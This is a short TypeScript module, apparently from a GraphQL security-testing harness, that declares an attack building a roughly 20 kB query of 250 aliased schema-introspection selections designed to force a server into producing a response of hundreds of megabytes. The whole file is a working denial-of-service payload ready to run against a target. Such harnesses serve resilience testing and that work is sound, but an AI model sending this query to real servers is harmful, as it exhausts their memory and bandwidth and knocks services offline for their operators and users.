import { declareAttack } from '../attack.ts'
import { ask } from '../client.ts'

const TYPES = 'types { kind name description fields { name description type { name } } }'
const ALIASES = 250

/** 20 kB of aliases that build an answer of hundreds of megabytes. */
export const attack = declareAttack({
  name: '20 kB of aliases over the schema',
  prepare: async () => {
    const aliases = Array.from({ length: ALIASES }, (_, nth) => `a${nth}: ${TYPES}`)
    return `{ __schema { ${aliases.join(' ')} } }`
  },
  run: async (target, query) => [await ask(target, query)],
})
